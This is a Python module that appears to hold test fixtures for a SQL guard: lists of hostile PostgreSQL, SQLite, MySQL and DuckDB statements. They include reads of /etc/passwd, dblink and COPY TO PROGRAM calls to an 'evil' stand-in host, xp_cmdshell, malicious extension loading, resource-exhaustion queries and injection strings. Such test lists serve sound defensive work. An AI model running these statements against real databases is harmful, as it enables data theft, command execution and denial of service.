"""The hostile statements that call or command something: functions, statements that are no queries, odd clauses."""

from __future__ import annotations

FUNCTIONS = """
SELECT pg_sleep(10)
SELECT PG_SLEEP(10)
SELECT "pg_sleep"(10)
SELECT pg_catalog.pg_sleep(10)
SELECT pg_catalog . pg_sleep (10)
SELECT pg_sleep/**/(10)
SELECT amount, pg_sleep(1) FROM sales
SELECT * FROM sales WHERE pg_sleep(1) IS NULL
SELECT * FROM sales ORDER BY pg_sleep(1)
SELECT * FROM pg_sleep(10)
SELECT t.to_json AS to_json FROM (SELECT * FROM sales) AS t
SELECT t.to_json, (SELECT t.to_json FROM (SELECT 1 AS to_json) AS t) FROM (SELECT amount FROM sales) AS t
SELECT t.to_json FROM (SELECT amount AS to_json FROM sales) AS t(a)
SELECT t.to_json FROM (SELECT amount FROM sales CROSS JOIN (SELECT 1 AS to_json) AS x) AS t
WITH t AS (SELECT amount FROM sales) SELECT t.record_out AS record_out FROM t
WITH t(a) AS (SELECT amount AS record_out FROM sales) SELECT t.record_out FROM t
WITH t AS (SELECT amount FROM sales UNION SELECT 1 AS record_out) SELECT t.record_out FROM t
SELECT s.region_name FROM sales AS s WHERE EXISTS (SELECT s.region_name FROM regions AS s)
SELECT pg_sleep_for('5 minutes')
SELECT pg_sleep_until('tomorrow')
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT * FROM pg_read_file('/etc/passwd')
SELECT pg_ls_dir('.')
SELECT * FROM pg_ls_dir('.')
SELECT pg_ls_logdir()
SELECT pg_stat_file('postgresql.conf')
SELECT pg_file_write('x', 'y', true)
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/etc/x')
SELECT lo_create(1)
SELECT lo_unlink(1)
SELECT lo_from_bytea(0, 'x')
SELECT lo_get(1)
SELECT lo_put(1, 0, 'x')
SELECT dblink('host=evil', 'SELECT 1')
SELECT * FROM dblink('host=evil dbname=x', 'SELECT 1') AS t(a int)
SELECT dblink_connect('host=evil')
SELECT dblink_exec('DELETE FROM sales')
SELECT query_to_xml('DELETE FROM sales', true, true, '')
SELECT table_to_xml('secrets', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT xpath('/x', 'y')
SELECT set_config('statement_timeout', '0', false)
SELECT current_setting('data_directory')
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_promote()
SELECT pg_logical_emit_message(true, 'x', 'y')
SELECT pg_create_logical_replication_slot('x', 'y')
SELECT pg_notify('x', 'y')
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_lock(1)
SELECT pg_advisory_xact_lock(1)
SELECT nextval('s')
SELECT setval('s', 1)
SELECT currval('s')
SELECT txid_current()
SELECT pg_export_snapshot()
SELECT pg_get_viewdef('v')
SELECT pg_get_functiondef(1)
SELECT pg_relation_filepath('sales')
SELECT pg_database_size('x')
SELECT has_table_privilege('secrets', 'select')
SELECT version()
SELECT current_user
SELECT user
SELECT session_user
SELECT current_role
SELECT current_catalog
SELECT current_schema
SELECT current_database()
SELECT amount AS user, user FROM sales
SELECT inet_server_addr()
SELECT pg_backend_pid()
SELECT generate_series(1, 1000000000)
SELECT * FROM generate_series(1, 1000000000)
SELECT * FROM sales, generate_series(1, 1000000000)
SELECT COUNT(*) FROM generate_series(1, 100000) a, generate_series(1, 100000) b
SELECT repeat('x', 1000000000)
SELECT lpad('x', 1000000000, 'y')
SELECT rpad('x', 1000000000)
SELECT unnest(ARRAY[1, 2, 3])
SELECT * FROM unnest(ARRAY[1, 2, 3])
SELECT array_fill(0, ARRAY[100000000])
SELECT regexp_split_to_table('a', 'b')
SELECT regexp_matches(region_name, '(a+)+$') FROM regions
SELECT jsonb_path_query('{}', '$')
SELECT json_populate_recordset(NULL::secrets, '[]')
SELECT row_to_json(s) FROM sales AS s
SELECT to_json(s) FROM sales AS s
SELECT json_agg(s) FROM sales AS s
SELECT crypt('x', gen_salt('bf', 31))
SELECT load_extension('evil')
SELECT load_extension('evil.so', 'main')
SELECT "load_extension"('evil')
SELECT readfile('/etc/passwd')
SELECT writefile('/etc/x', 'y')
SELECT edit('x')
SELECT * FROM fsdir('.')
SELECT fts3_tokenizer('x')
SELECT randomblob(1000000000)
SELECT zeroblob(1000000000)
SELECT hex(zeroblob(1000000000))
SELECT printf('%1000000000d', 1)
SELECT format('%1000000000s', 'x')
SELECT char(0)
SELECT quote(note) FROM sales
SELECT random()
SELECT sqlite_version()
SELECT sqlite_source_id()
SELECT sqlite_compileoption_get(1)
SELECT last_insert_rowid()
SELECT changes()
SELECT total_changes()
SELECT * FROM json_each('[1]')
SELECT * FROM json_tree('[1]')
SELECT * FROM carray(1, 2)
SELECT * FROM csv
SELECT sleep(10)
SELECT benchmark(1000000000, 1)
SELECT load_file('/etc/passwd')
SELECT sys_exec('x')
SELECT xp_cmdshell('x')
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('https://evil.example/x')
SELECT * FROM 'file.parquet'
SELECT * FROM glob('*')
SELECT getenv('HOME')
SELECT query('DELETE FROM sales')
SELECT my_function(1)
SELECT public.count(1)
SELECT ｐｇ＿ｓｌｅｅｐ(1)
SELECT рg_sleep(1)
SELECT COUNT(*) FROM sales WHERE my_function(amount) > 1
SELECT SUM(pg_sleep(1)) FROM sales
SELECT amount FROM sales GROUP BY amount HAVING pg_sleep(1) IS NULL
SELECT CASE WHEN amount > 0 THEN pg_sleep(1) END FROM sales
"""

COMMANDS = """
ATTACH DATABASE 'evil.db' AS evil
ATTACH 'file:evil.db?mode=rwc' AS evil
DETACH DATABASE main
PRAGMA writable_schema = ON
PRAGMA table_info(secrets)
PRAGMA journal_mode = DELETE
PRAGMA query_only = OFF
PRAGMA user_version = 99
COPY sales TO '/etc/x'
COPY sales TO PROGRAM 'curl evil.example'
COPY sales FROM PROGRAM 'cat /etc/passwd'
COPY (SELECT * FROM secrets) TO STDOUT
COPY sales FROM STDIN
EXPORT DATABASE 'x'
INSTALL httpfs
LOAD httpfs
LOAD 'evil.so'
SET statement_timeout = 0
SET SESSION AUTHORIZATION postgres
SET ROLE postgres
SET TRANSACTION READ WRITE
SET search_path = evil
RESET ALL
SHOW ALL
SHOW data_directory
CALL f()
EXECUTE p
PREPARE p AS DELETE FROM sales
DEALLOCATE ALL
DECLARE c CURSOR FOR SELECT * FROM secrets
FETCH ALL FROM c
DO $$ BEGIN DELETE FROM sales; END $$
DO LANGUAGE plpgsql 'BEGIN DELETE FROM sales; END'
EXPLAIN SELECT * FROM sales
EXPLAIN ANALYZE DELETE FROM sales
EXPLAIN (ANALYZE, BUFFERS) UPDATE sales SET amount = 0
EXPLAIN QUERY PLAN SELECT * FROM secrets
LOCK TABLE sales IN ACCESS EXCLUSIVE MODE
LISTEN x
NOTIFY x, 'y'
UNLISTEN *
CHECKPOINT
DISCARD ALL
BEGIN
COMMIT
ROLLBACK
SAVEPOINT x
RELEASE x
START TRANSACTION READ WRITE
DESCRIBE secrets
USE evil
HANDLER sales OPEN
FLUSH TABLES
KILL 1
IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z
SECURITY LABEL ON TABLE sales IS 'x'
REASSIGN OWNED BY app TO attacker
\\copy sales to x
.shell ls
"""

CLAUSES = """
SELECT * FROM sales FOR UPDATE
SELECT * FROM sales FOR SHARE
SELECT * FROM sales FOR NO KEY UPDATE NOWAIT
SELECT * FROM sales FOR UPDATE SKIP LOCKED
SELECT * FROM sales LIMIT 5 FOR UPDATE OF sales
SELECT * FROM sales INTO OUTFILE '/etc/x'
SELECT * INTO OUTFILE '/etc/x' FROM sales
SELECT * INTO DUMPFILE '/etc/x' FROM sales
SELECT amount INTO @x FROM sales
SELECT @x := 1
SELECT @@version
SELECT $1
SELECT :name
SELECT ?
SELECT amount FROM sales LIMIT 1 + 1
SELECT amount FROM sales LIMIT ALL
SELECT amount FROM sales LIMIT -1
SELECT amount FROM sales LIMIT NULL
SELECT amount FROM sales FETCH FIRST 10 PERCENT ROWS ONLY
SELECT * FROM sales TABLESAMPLE SYSTEM (10)
SELECT * FROM sales INDEXED BY sales_by_date
SELECT amount FROM sales WHERE CURRENT OF c
SELECT * FROM sales AS OF SYSTEM TIME '-1h'
SELECT * FROM ROWS FROM (generate_series(1, 10))
SELECT * FROM sales, LATERAL (SELECT pg_sleep(1)) AS x
SELECT * FROM XMLTABLE('/x' PASSING 'y' COLUMNS z text)
SELECT * FROM JSON_TABLE('[]', '$' COLUMNS (a int PATH '$'))
SELECT amount OPERATOR(pg_catalog.+) 1 FROM sales
SELECT amount COLLATE "x; DELETE FROM sales" FROM sales WHERE my_function(1) = 1
SELECT 'x' LIKE load_extension('y')
SELECT region_name MATCH 'x' FROM regions
SELECT x'00'
SELECT B'01'
SELECT U&'\\0041'
SELECT E'\\x41'
SELECT ARRAY[1, 2, 3]
SELECT ROW(1, 2)
SELECT {'a': 1}
SELECT DATE 'x', pg_sleep(1)
SELECT INTERVAL '1 day' * pg_sleep(1)
SELECT /*! pg_sleep(1), */ user
SELECT /*+ SET_VAR(x=1) */ user
SELECT
SELECT FROM
'; DROP TABLE sales; --
1 OR 1=1; DELETE FROM sales
{{ DELETE FROM sales }}
"""
